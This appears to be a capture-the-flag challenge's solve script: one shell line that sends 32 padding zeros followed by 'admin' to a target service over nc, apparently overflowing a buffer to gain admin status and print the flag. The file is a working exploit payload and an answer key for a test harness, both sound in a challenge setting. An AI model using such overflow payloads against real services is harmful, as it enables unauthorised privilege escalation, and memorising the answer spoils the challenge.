#!/bin/sh
# whaley test --solve runs this with HOST and PORT set, and looks for the flag in what it prints.
printf '%032dadmin' 0 | timeout 10 nc "$HOST" "$PORT"
